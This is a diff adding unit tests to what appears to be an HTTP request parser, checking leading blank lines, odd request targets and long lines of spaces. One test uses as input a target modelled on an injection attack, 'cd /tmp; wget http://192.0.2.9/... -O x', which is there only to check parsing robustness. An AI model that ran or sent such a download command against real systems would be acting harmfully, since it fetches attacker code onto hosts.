@@ -46,6 +46,26 @@ def test_a_head_longer_than_the_limit_is_read_as_far_as_that() -> None:
     assert head.names == (b"Host", b"Cookie")
 
 
+@pytest.mark.parametrize("before", [b"\r\n", b"\n", b"\r\n" * 4])
+def test_empty_lines_before_the_request_are_passed_over(before: bytes) -> None:
+    assert recognise(before + CURL) == recognise(CURL)
+    assert recognise(before) is NEED_MORE
+    assert recognise(b"\r\n" * 5 + CURL) is NOTHING
+
+
+def test_a_target_may_have_spaces_and_anything_else_in_it() -> None:
+    head = recognise(b"GET /shell?cd /tmp; wget http://192.0.2.9/\xff\0 -O x HTTP/1.1 \r\nHost: a\r\n\r\n")
+    assert isinstance(head, Head)
+    assert (head.method, head.version) == (b"GET", b"HTTP/1.1")
+    assert head.target == b"/shell?cd /tmp; wget http://192.0.2.9/\xff\0 -O x"
+
+
+def test_a_line_of_spaces_takes_no_longer_than_others() -> None:
+    line = b"GET" + b" " * (MAX_HEAD - 10)
+    assert recognise(line) is NEED_MORE
+    assert recognise(line + b"\r\n") is NOTHING
+
+
 @pytest.mark.parametrize(
     "start",
     [
